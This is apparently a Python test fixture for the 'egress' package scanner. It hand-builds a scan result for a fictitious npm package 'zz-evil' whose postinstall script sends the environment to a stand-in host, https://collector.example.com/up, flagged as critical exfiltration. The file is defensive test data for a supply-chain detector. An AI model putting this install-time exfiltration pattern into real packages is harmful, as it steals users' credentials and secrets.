"""Results the table tests render, built by hand."""
from __future__ import annotations

import dataclasses

from egress.model import Alert, Ecosystem, FindingKind, PackageResult, ScanResult, Severity, Timing, Verdict
from tests.report.conftest import _finding, constructed_result


def critical_package() -> PackageResult:
    """Sends the environment from an install script: four alert types, critical at worst."""
    hook = _finding(FindingKind.INSTALL_SCRIPT, "scripts.postinstall", "", "package.json", 1, 1,
                    '"postinstall": "node setup.js"', timing=Timing.INSTALL)
    send = _finding(FindingKind.NETWORK, "https.request", "https", "setup.js", 2, 13,
                    "https.request('https://collector.example.com/up')", timing=Timing.INSTALL,
                    data_sources=("env",))
    alerts = (Alert("installScripts", Severity.HIGH, hook), Alert("networkAccess", Severity.MEDIUM, send),
              Alert("installTimeNetwork", Severity.HIGH, send), Alert("exfiltration", Severity.CRITICAL, send))
    return PackageResult(ecosystem=Ecosystem.NPM, name="zz-evil", version="6.6.6", verdict=Verdict.NETWORK,
                         alerts=alerts, files_analysed=2, not_analysed=(), locations=("node_modules/zz-evil",),
                         findings=(hook, send), artifact_kind="folder")


def with_critical() -> ScanResult:
    base = constructed_result()
    return dataclasses.replace(base, packages=base.packages + (critical_package(),))
